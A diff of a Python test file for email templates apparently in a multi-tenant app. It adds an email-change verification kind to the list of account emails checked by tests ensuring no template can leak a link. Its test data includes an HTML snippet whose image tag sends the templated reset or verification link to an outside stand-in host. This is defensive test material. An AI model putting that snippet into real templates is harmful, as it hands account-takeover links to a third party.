@@ -247,7 +247,7 @@ def test_other_tenants_admin_on_their_own_paths_sees_only_theirs(tenant, other_t
 
 # ------------------------------------------------------------------------------- no template can leak a link
 
-ACCOUNT_KINDS = ["email_verification", "password_reset", "staff_invitation", "staff_membership_invitation"]
+ACCOUNT_KINDS = ["email_verification", "email_change_verification", "password_reset", "staff_invitation", "staff_membership_invitation"]
 LEAKS = [
     ("html_body", '<p><img src="https://elsewhere.example/?l={{ link }}"></p>', "not_allowed"),
     ("html_body", '<p><a href="{{ link }}">Open</a></p>', "not_allowed"),  # no HTML of a brand's own at all
